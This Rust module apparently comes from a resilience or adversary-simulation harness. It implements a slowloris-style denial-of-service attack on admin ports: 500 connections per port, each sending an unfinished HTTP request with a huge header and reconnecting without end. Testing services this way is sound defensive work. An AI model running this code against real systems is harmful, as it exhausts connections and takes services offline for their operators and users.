//! What somebody who reaches the admin ports does to them.

use std::time::Duration;

use futures::future::join_all;
use tokio::{io::AsyncWriteExt as _, net::TcpStream, time::sleep};

/// Connections to each admin port, and what each sends of a request that never ends.
const HALF_REQUESTS: usize = 500;
const HALF_REQUEST_BYTES: usize = 380_000;

/// Opens connections that send a request that never ends, and opens new ones when they are closed.
pub(super) async fn half_requests(admins: Vec<String>) {
    let connections = admins.iter().flat_map(|admin| {
        (0..HALF_REQUESTS).map(move |_| async move {
            loop {
                if let Ok(mut stream) = TcpStream::connect(admin).await {
                    let head = "GET / HTTP/1.1\r\nhost: a\r\na: ";
                    let _closed = stream.write_all(head.as_bytes()).await;
                    let _closed = stream.write_all(&vec![b'a'; HALF_REQUEST_BYTES]).await;
                    sleep(Duration::from_secs(10)).await;
                }
                sleep(Duration::from_millis(100)).await;
            }
        })
    });
    join_all(connections).await;
}
